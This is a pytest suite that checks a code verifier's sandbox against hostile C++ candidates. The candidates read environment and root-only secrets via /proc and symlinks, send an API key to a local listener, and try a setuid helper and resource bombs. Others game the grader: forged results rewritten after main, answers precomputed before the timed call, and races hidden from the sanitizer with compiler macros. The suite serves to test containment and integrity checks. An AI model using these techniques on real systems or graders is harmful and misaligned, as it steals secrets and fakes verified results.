"""Hostile candidates for examples/reduction, one per class of attack on the verifier.

Each one is a real program run through the real pipeline (g++, clang++ with TSan and
Archer, the sandbox launcher), and each test proves containment: no file written
outside, no secret in any output of the verdict, verify ends within its bound, and no
PASS. Run as root (as CI does) everything holds; not as root the uid, namespaces,
cgroup and tmpfs are unavailable, and those tests skip saying so.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from parcodegen.problems.load import load_problem
from parcodegen.sandbox.jail_build import jail_path
from parcodegen.sandbox.run import IS_ROOT
from parcodegen.sandbox.trusted import is_verified
from parcodegen.tools import build as build_mod
from parcodegen.types import Candidate, Status, Verdict
from parcodegen.verify.pipeline import VerifyOptions, verify

REDUCTION = Path(__file__).resolve().parents[2] / "examples" / "reduction"
ENV_SECRET = "sk-hostile-ENV-SECRET-4242"
FILE_SECRET = "root-only-FILE-SECRET-9191"
CMDLINE_SECRET = "cmdline-SECRET-7373"
CHECKS = VerifyOptions(timing=False, race=False, difftest_threads=(1, 2))
needs_root = pytest.mark.skipif(
    not IS_ROOT,
    reason="REDUCED: not root, so no sandbox uid, namespaces, cgroup or tmpfs work dir; "
    "this containment is only proven as root (CI runs as root)",
)

HEAD = """#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
#include <fcntl.h>
#include <unistd.h>
#include <sys/stat.h>
"""
SUM = """  double sum = 0.0;
  const long n = static_cast<long>(x.size());
#pragma omp parallel for reduction(+ : sum)
  for (long i = 0; i < n; ++i) sum += std::exp(-0.5 * x[i] * x[i]);
"""


def good_function(prefix: str = "") -> str:
    return (
        f"double gaussian_energy(const std::vector<double>& x) {{\n{prefix}{SUM}  return sum;\n}}\n"
    )


@pytest.fixture
def secrets(monkeypatch):
    """A secret in the parent's environment and one in a root-only file."""
    monkeypatch.setenv("OPENAI_API_KEY", ENV_SECRET)
    d = Path(tempfile.mkdtemp(prefix="pcg-hostile-", dir="/var/tmp"))
    (d / "root-only.txt").write_text(FILE_SECRET)
    (d / "root-only.txt").chmod(0o600)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def text_of(v: Verdict) -> str:
    return json.dumps(v.to_dict() if hasattr(v, "to_dict") else [s.__dict__ for s in v.steps],
                      default=str) + "".join(s.message + s.log for s in v.steps)  # fmt: skip


def run_verify(code: str, options: VerifyOptions = CHECKS, problem_dir: Path = REDUCTION):
    start = time.monotonic()
    v = verify(load_problem(problem_dir), Candidate(code), options)
    return v, time.monotonic() - start


def assert_contained(v: Verdict, seconds: float, bound: float, *extra_secrets: str) -> None:
    assert v.status is not Status.PASS, v.message
    assert v.status is not Status.INFRA_ERROR, v.message  # blamed on the candidate
    text = text_of(v)
    for secret in (ENV_SECRET, FILE_SECRET, *extra_secrets):
        assert secret not in text
    assert seconds < bound, f"verify took {seconds:.0f}s (bound {bound:.0f}s)"
    assert is_verified(jail_path())  # the launcher is untouched


@needs_root
def test_symlinked_outputs_and_a_faked_text_file_busy(secrets):
    planted = secrets / "planted-by-candidate"
    code = (
        HEAD
        + f"""
static int attack = [] {{
  // every name the parent ever opened in the work dir, pointed somewhere it must not go
  symlink("{planted}", ".stdout");
  symlink("/proc/self/environ", ".stderr");
  symlink("{secrets / "root-only.txt"}", "out.bin");
  for (int i = 0; i < 64; ++i) symlink("{planted}", ("out-" + std::to_string(i) + ".bin").c_str());
  symlink("{jail_path()}", "prog");
  std::fprintf(stderr, "pcg-jail: cannot run ./prog: Text file busy\\n");
  _exit(124);
  return 0;
}}();
"""
        + good_function()
    )
    v, secs = run_verify(code)
    assert_contained(v, secs, 120)
    assert v.status is Status.CRASH and "exit status 124" in v.message
    assert not planted.exists()
    assert (secrets / "root-only.txt").read_text() == FILE_SECRET


@needs_root
def test_environment_and_root_files_do_not_reach_the_verdict(secrets):
    code = (
        HEAD
        + """
static void dump(const char* path) {
  char buf[4096];
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) { std::fprintf(stderr, "%s: unreadable\\n", path); return; }
  ssize_t k = read(fd, buf, sizeof buf - 1);
  if (k > 0) { for (ssize_t i = 0; i < k; ++i) if (!buf[i]) buf[i] = ' '; buf[k] = 0;
               std::fprintf(stderr, "%s: %s\\n", path, buf); }
  close(fd);
}
"""
        + good_function(
            """  const char* paths[] = {"/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline",
                         "/proc/2/environ", "SECRETFILE", "/root/.bash_history"};
  for (const char* p : paths) dump(p);
  std::abort();
""".replace("SECRETFILE", str(secrets / "root-only.txt"))
        )
    )
    v, secs = run_verify(code)
    assert_contained(v, secs, 120)
    assert v.status is Status.CRASH and "unreadable" in v.message


@needs_root
def test_fifos_in_place_of_outputs_do_not_hang_verify(secrets):
    code = (
        HEAD
        + """
static int attack = [] {
  const char* names[] = {".stdout", ".stderr", "out.bin", "out.o", "a.out"};
  for (const char* n : names) { unlink(n); mkfifo(n, 0666); }
  for (int i = 0; i < 64; ++i) mkfifo(("out-" + std::to_string(i) + ".bin").c_str(), 0666);
  return 0;
}();
"""
        + good_function("  _exit(1);\n")
    )
    v, secs = run_verify(code)
    assert_contained(v, secs, 120)
    assert v.status is Status.CRASH


@needs_root
def test_no_network_to_a_local_listener(secrets):
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    got: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(100) or b"(connected)")
            conn.close()

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    code = (
        HEAD
        + "#include <arpa/inet.h>\n#include <sys/socket.h>\n"
        + good_function(f"""
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{{}};
  a.sin_family = AF_INET;
  a.sin_port = htons({port});
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (s < 0 || connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) return -1.0;
  const char* key = std::getenv("OPENAI_API_KEY");
  if (write(s, key ? key : "connected", std::strlen(key ? key : "connected")) < 0) return -2.0;
""")
    )
    try:
        v, secs = run_verify(code)
    finally:
        stop.set()
        t.join(timeout=5)
        server.close()
    assert_contained(v, secs, 120)
    assert got == []
    assert v.status is Status.WRONG_OUTPUT and "got -1" in v.message  # connect failed


@needs_root
def test_other_processes_command_lines_are_invisible(secrets):
    witness = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(300)", CMDLINE_SECRET]
    )
    time.sleep(0.2)
    assert witness.poll() is None and CMDLINE_SECRET in _cmdline(str(witness.pid))
    code = (
        HEAD
        + "#include <dirent.h>\n"
        + good_function("""
  int seen = 0;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      std::string p = std::string("/proc/") + e->d_name + "/cmdline";
      int fd = open(p.c_str(), O_RDONLY);
      if (fd < 0) continue;
      char buf[4096];
      ssize_t k = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (k <= 0) continue;
      for (ssize_t i = 0; i < k; ++i) if (!buf[i]) buf[i] = ' ';
      buf[k] = 0;
      std::fprintf(stderr, "%s: %s\\n", e->d_name, buf);
      ++seen;
    }
    closedir(d);
  }
  std::fprintf(stderr, "processes seen: %d\\n", seen);
  std::abort();
""")
    )
    try:
        v, secs = run_verify(code)
    finally:
        witness.kill()
        witness.wait()
    assert_contained(v, secs, 120, CMDLINE_SECRET)
    assert v.status is Status.CRASH and "processes seen:" in v.message
    seen = int(re.search(r"processes seen: (\d+)", v.message).group(1))
    assert seen <= 2  # itself (and what it runs): the namespace's own /proc, init hidden


@needs_root
def test_a_setuid_helper_neither_gains_root_nor_survives(secrets):
    tools = Path(tempfile.mkdtemp(prefix="pcg-suid-", dir="/var/tmp"))
    try:
        tools.chmod(0o755)
        helper = tools / f"pcg-suid-helper-{os.getpid()}"
        shutil.copy("/bin/sleep", helper)
        ident = tools / "pcg-suid-id"
        shutil.copy("/usr/bin/id", ident)
        for p in (helper, ident):
            os.chown(p, 0, 0)
            p.chmod(0o4755)
        code = (
            HEAD
            + f"""
#include <sys/wait.h>
static int attack = [] {{
  if (fork() == 0) {{
    setsid();
    if (fork() == 0) {{ execl("{helper}", "{helper}", "300", (char*)nullptr); _exit(1); }}
    _exit(0);
  }}
  wait(nullptr);
  return 0;
}}();
"""
            + good_function(f"""
  FILE* p = popen("{ident} -u", "r");
  char buf[64] = {{0}};
  if (p) {{ if (!fgets(buf, sizeof buf, p)) buf[0] = 0; pclose(p); }}
  std::fprintf(stderr, "euid via setuid helper: %s\\n", buf);
  if (std::atol(buf) == 0) return -7.0;  // root: the attack worked
  return -1.0;
""")
        )
        v, secs = run_verify(code)
        assert_contained(v, secs, 120)
        assert v.status is Status.WRONG_OUTPUT and "got -1" in v.message  # not root
        time.sleep(0.2)
        survivors = [p for p in os.listdir("/proc") if p.isdigit() and helper.name in _cmdline(p)]
        assert survivors == []
    finally:
        shutil.rmtree(tools, ignore_errors=True)


def _cmdline(pid: str) -> str:
    try:
        return (
            Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        )
    except OSError:
        return ""


@needs_root
def test_memory_under_thread_sanitizer_is_capped_by_the_cgroup(secrets, monkeypatch):
    monkeypatch.setattr(build_mod, "RUN_RESIDENT_MB", 1024)  # the run's cgroup limit
    # straight to the race build (no address-space limit can be set under TSan)
    code = HEAD + good_function("""
  {
    std::vector<char*> hog;
    for (int i = 0; i < 64; ++i) { char* p = static_cast<char*>(std::malloc(64 << 20));
                                   if (!p) break; std::memset(p, 1, 64 << 20); hog.push_back(p); }
    std::fprintf(stderr, "allocated %zu MB\\n", hog.size() * 64);
  }
""")
    v, secs = run_verify(code, VerifyOptions(timing=False, difftest=False))
    assert_contained(v, secs, 300)
    race = next(s for s in v.steps if s.step == "race")
    assert v.status is Status.CRASH and "memory limit exceeded" in race.message
    assert "allocated 4096 MB" not in race.log


@needs_root
def test_a_disk_flood_is_bounded(secrets):
    code = HEAD + good_function("""
  static std::vector<char> block(1 << 20, 'x');
  static double written = -1;  // the flood once per process, then its size as the answer
  if (written >= 0) return written;
  written = 0;
  const char* names[] = {"flood0", "flood1", "flood2", "/tmp/flood", "/dev/shm/flood",
                         "/var/tmp/flood"};
  for (const char* name : names) {
    int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) continue;
    for (int i = 0; i < 2048; ++i) {
      ssize_t k = write(fd, block.data(), block.size());
      if (k <= 0) break;
      written += k;
    }
    close(fd);
  }
  return written;
""")
    v, secs = run_verify(code, VerifyOptions(timing=False, race=False, difftest_threads=(1,)))
    assert_contained(v, secs, 120)
    assert v.status is Status.WRONG_OUTPUT
    got = float(re.search(r"got ([0-9.e+]+)", v.message).group(1))
    # the work dir (a tmpfs of at most 512 MB: Workdir's default, build.RUN_WORKDIR_MB for
    # a single run) + the private /tmp and /dev/shm (64 MB each); not 6 GB
    assert got <= (max(512, build_mod.RUN_WORKDIR_MB) + 2 * 64) * (1 << 20)
    assert not Path("/var/tmp/flood").exists()


def small_bench(tmp_path: Path, bench: int = 20_000_000) -> Path:
    d = tmp_path / "reduction"
    shutil.copytree(REDUCTION, d)
    toml = d / "problem.toml"
    toml.write_text(re.sub(r"(?m)^bench\s*=.*$", f"bench = {bench}", toml.read_text()))
    return d


TIMED = VerifyOptions(difftest=False, race=False, timing_reps=3, warmup=1, threads=2)


@needs_root
def test_a_static_destructor_rewriting_the_results_is_not_a_speedup(secrets, tmp_path):
    # the call only takes the input's buffer and returns; the work is done after main,
    # and the results file is rewritten with the right answer
    code = (
        HEAD
        + '#include "parcodegen_harness.h"\n'
        + """
static std::vector<double> kept;
static int results = -1;
struct Forger {
  ~Forger() {
    if (kept.empty() || results < 0) return;
    double sum = 0.0;
    for (double v : kept) sum += std::exp(-0.5 * v * v);
    if (dup2(results, 4) != 4 || ftruncate(4, 0) != 0 || lseek(4, 0, SEEK_SET) != 0) return;
    pcg::Out o(0, 0);
    o.put("__threads", std::uint64_t{1});
    o.put("return", sum);
    std::fflush(o.f);
  }
} forger;
double gaussian_energy(const std::vector<double>& x) {
  if (results < 0) results = dup(4);  // the harness closes fd 4 when main returns
  kept.swap(const_cast<std::vector<double>&>(x));  // the input's buffer, in O(1)
  return 0.0;
}
"""
    )
    v, secs = run_verify(code, TIMED, small_bench(tmp_path))
    assert_contained(v, secs, 300)
    assert v.status is Status.SUSPECT, v.message
    assert any(w in v.message for w in ("outside the timed call", "beyond what", "no measurable"))


@needs_root
@pytest.mark.parametrize("spaced", [False, True], ids=["start-end-together", "1ms-call"])
def test_a_static_constructor_precomputing_from_the_seed_is_not_a_speedup(secrets, tmp_path,
                                                                           spaced):  # fmt: skip
    # reads the parameters itself (it cannot find them in argv or the environment), makes
    # the input, computes the answer before main, then feeds the harness a copy of the
    # parameters and marks its own near-empty "call" for the launcher
    code = (
        HEAD
        + '#include "parcodegen_harness.h"\n'
        + """
static int real_events = -1;
static double answer = 0.0;
static int attack = [] {
  if (write(3, "R", 1) != 1) return 0;
  std::string text;
  char buf[4096];
  ssize_t k;
  while ((k = read(0, buf, sizeof buf)) > 0) text.append(buf, k);
  unsigned long long seed = 0, n = 0;
  char pattern[64] = "random";
  const char* s = std::strstr(text.c_str(), "seed ");
  if (s) seed = std::strtoull(s + 5, nullptr, 10);
  s = std::strstr(text.c_str(), "\\nn ");
  if (s) n = std::strtoull(s + 3, nullptr, 10);
  s = std::strstr(text.c_str(), "pattern ");
  if (s) std::sscanf(s + 8, "%63s", pattern);
  pcg::Rng rng(seed);
  std::vector<double> x(n);
  pcg::fill(x, rng, -3.0, 3.0, pcg::parse_pattern(pattern));
  for (double v : x) answer += std::exp(-0.5 * v * v);
  int p[2];
  if (pipe(p) != 0 || write(p[1], text.data(), text.size()) < 0) return 0;
  close(p[1]);
  dup2(p[0], 0);
  real_events = dup(3);
  int null = open("/dev/null", O_WRONLY);
  dup2(null, 3);
  return 0;
}();
double gaussian_energy(const std::vector<double>& x) {
  (void)x;
  if (real_events < 0 || write(real_events, "S", 1) != 1) return -1.0;
  SPIN
  if (write(real_events, "E", 1) != 1) return -1.0;
  return answer;
}
""".replace("SPIN", "usleep(1000);" if spaced else "")
    )
    v, secs = run_verify(code, TIMED, small_bench(tmp_path))
    assert_contained(v, secs, 300)
    assert v.status is Status.SUSPECT, v.message
    # (which rule fires depends on the machine's noise; the rules alone:
    # tests/tools/test_integrity_checks.py)
    assert any(w in v.message for w in ("outside the timed call", "beyond what", "no measurable"))


RACY = (
    "#pragma omp parallel for\n  for (long i = 0; i < n; ++i) sum += std::exp(-0.5 * x[i] * x[i]);"
)
SERIAL = "for (long i = 0; i < n; ++i) sum += std::exp(-0.5 * x[i] * x[i]);"


@pytest.mark.parametrize(
    "guard",
    ["#if defined(__has_feature)\n#if __has_feature(thread_sanitizer)\n#define PCG_SERIAL 1\n#endif\n#endif",
     "#ifdef __clang__\n#define PCG_SERIAL 1\n#endif",
     "#ifdef __SANITIZE_THREAD__\n#define PCG_SERIAL 1\n#endif",
     "#if !__OPTIMIZE__\n#define PCG_SERIAL 1\n#endif",
     "#if _OPENMP >= 201811\n#define PCG_SERIAL 1\n#endif"],
    ids=["has_feature", "clang", "sanitize_thread", "optimize", "openmp_version"],
)  # fmt: skip
def test_race_hidden_behind_a_compiler_macro_is_rejected(guard):
    code = f"""#include <cmath>
#include <vector>
{guard}
double gaussian_energy(const std::vector<double>& x) {{
  double sum = 0.0;
  const long n = static_cast<long>(x.size());
#ifdef PCG_SERIAL
  {SERIAL}
#else
  {RACY}
#endif
  return sum;
}}
"""
    v, secs = run_verify(code, VerifyOptions(timing=False))
    assert v.status is Status.SUSPECT, v.message
    assert "depends on which compiler or sanitizer" in v.message and secs < 120
    # the same code without the trick is rejected: a race (or the race shows as a wrong sum)
    plain = code.replace(guard, "")
    assert run_verify(plain, VerifyOptions(timing=False))[0].status in (
        Status.RACE,
        Status.WRONG_OUTPUT,
    )


def test_error_under_clang_and_clang_only_failures_are_rejections():
    trick = "#ifdef __clang__\n#error not for the race build\n#endif\n" + good_function()
    assert run_verify("#include <cmath>\n#include <vector>\n" + trick)[0].status is Status.SUSPECT
    # no macro at all: a construct g++ accepts and clang++ does not (a gcc-only builtin)
    vla = "#include <cmath>\n#include <vector>\n" + good_function(
        "  void* frame = __builtin_apply_args();\n  (void)frame;\n"
    )
    v, _ = run_verify(vla, VerifyOptions(timing=False, difftest_threads=(1,)))
    race = next(s for s in v.steps if s.step == "race")
    if race.skipped:
        pytest.skip(f"REDUCED: {race.message}")
    assert v.status is Status.COMPILE_ERROR and "race check" in race.message


@needs_root
def test_the_tested_build_cannot_tell_it_is_not_the_race_build():
    # the race build has TSAN_OPTIONS and an unlimited address space; so does every run
    code = (
        HEAD
        + "#include <sys/resource.h>\n"
        + good_function("""
  rlimit as{};
  getrlimit(RLIMIT_AS, &as);
  return (std::getenv("TSAN_OPTIONS") ? 1 : 0) + (std::getenv("OMP_TOOL_LIBRARIES") ? 2 : 0) +
         (as.rlim_cur == RLIM_INFINITY ? 4 : 0);
""")
    )
    v, secs = run_verify(code, VerifyOptions(timing=False, race=False, difftest_threads=(1,)))
    assert v.status is Status.WRONG_OUTPUT and ", got 7" in v.message, v.message


@needs_root
def test_a_thread_bomb_stops_at_the_harness_process_limit(secrets):
    # Harness runs allow HARNESS_NPROC threads (correct nested OpenMP at 65 x 65 needs
    # ~4200): a candidate that starts sleeping threads until it cannot still stops there
    # and returns the count (a wrong output naming it), within its wall limit.
    from parcodegen.tools.build import HARNESS_NPROC

    code = (
        HEAD
        + "#include <thread>\n#include <chrono>\n"
        + good_function("""
  long started = 0;
  for (;;) {
    try {
      std::thread([] { std::this_thread::sleep_for(std::chrono::seconds(30)); }).detach();
    } catch (...) { break; }
    if (++started > 100000) break;
  }
  return static_cast<double>(started);
""")
    )
    v, secs = run_verify(code, VerifyOptions(timing=False, race=False, difftest_threads=(1,)))
    assert_contained(v, secs, 120)
    got = [int(float(t)) for t in re.findall(r"got (\d+(?:\.\d+)?)", v.message)]
    assert got and 0 < got[0] <= HARNESS_NPROC, v.message
